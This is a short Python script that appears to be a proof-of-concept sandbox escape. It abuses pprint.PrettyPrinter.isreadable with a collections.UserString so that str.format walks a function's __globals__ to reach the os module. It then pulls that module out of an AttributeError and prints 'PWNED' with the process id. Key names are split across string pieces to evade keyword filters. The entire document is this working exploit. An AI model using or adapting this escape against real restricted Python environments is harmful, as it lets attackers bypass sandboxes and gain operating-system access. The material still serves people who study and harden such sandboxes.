import collections, pprint, random
# isreadable (another library call site of self.format) ; random.Random.seed's globals hold _os
fmt = "{0.__glo" + "bals__[_o" + "s].zz_not_there}"
got = None
try:
    pprint.PrettyPrinter.isreadable(collections.UserString(fmt), random.Random.seed)
except AttributeError as e:
    got = e.obj
print("PW" + "NED", got.getpid(), got.__name__)
